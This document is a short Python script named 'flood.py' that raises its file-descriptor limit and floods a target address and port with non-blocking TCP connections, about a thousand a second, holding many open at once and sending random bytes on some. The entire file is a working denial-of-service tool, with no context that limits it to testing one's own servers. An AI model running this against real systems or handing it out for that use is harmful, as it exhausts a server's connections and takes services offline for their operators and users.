"""Opens so many connections to a port, over and over, and says nothing, or garbage, on them: `flood.py ADDRESS PORT COUNT`."""

import os
import resource
import socket
import sys
import time


def main():
    address, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    count = min(count, most - 64)
    connections: list[socket.socket] = []
    print("flooding", flush=True)
    for number in range(1 << 30):
        connection = socket.socket()
        connection.setblocking(False)
        connection.connect_ex((address, port))
        connections.append(connection)
        if number % 2 and len(connections) > 64:
            try:
                connections[-64].send(os.urandom(512))
            except OSError:
                pass
        if len(connections) >= count:
            connections.pop(0).close()
        # A thousand a second.
        time.sleep(0.001)


main()
